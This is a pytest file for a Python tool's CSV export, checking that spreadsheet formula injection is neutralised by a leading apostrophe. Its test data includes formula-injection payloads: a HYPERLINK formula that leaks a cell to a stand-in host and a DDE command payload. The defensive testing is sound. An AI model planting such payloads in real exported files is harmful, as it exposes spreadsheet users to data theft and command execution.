"""CSV output never hands a spreadsheet a formula (issue 22, item 12): cells beginning
with = + - @ tab or CR get a leading apostrophe, as OWASP recommends."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from sanctiongraph.cli import cli
from sanctiongraph.spreadsheet import csv_text, spreadsheet_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formulas_are_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-5", "+1.5e3", "-.5", "0", "Bank of =", "a@b", "", None, "2026-11-23"]
)
def test_plain_values_stay(value):
    assert spreadsheet_safe(value) == value


def test_csv_text_round_trips_through_a_csv_reader():
    text = csv_text(["name", "note"], [[v, "ok"] for v in HOSTILE] + [[None, "-7"]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "note"]
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in HOSTILE]
    assert rows[-1] == ["", "-7"]


def test_cli_query_csv_neutralises_formulas(tmp_path):
    data = tmp_path / "evil.ttl"
    # (typed with our vocabulary: a file with none of it is refused as not a source)
    data.write_text(
        "<urn:x:a> a <https://w3id.org/sanctiongraph/ontology#Company> ; "
        "<http://www.w3.org/2000/01/rdf-schema#label> "
        '"=HYPERLINK(\\"http://evil.example\\")", "-3"^^<http://www.w3.org/2001/XMLSchema#integer> .\n'
    )
    store = str(tmp_path / "store")
    loaded = CliRunner().invoke(cli, ["load", str(data), "--store", store])
    assert loaded.exit_code == 0, loaded.output
    result = CliRunner().invoke(
        cli,
        [
            "query",
            "--store",
            store,
            "--format",
            "csv",
            "--query",
            "SELECT ?l WHERE { <urn:x:a> <http://www.w3.org/2000/01/rdf-schema#label> ?l } ORDER BY STR(?l)",
        ],
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows == [["l"], ["-3"], ['\'=HYPERLINK("http://evil.example")']]
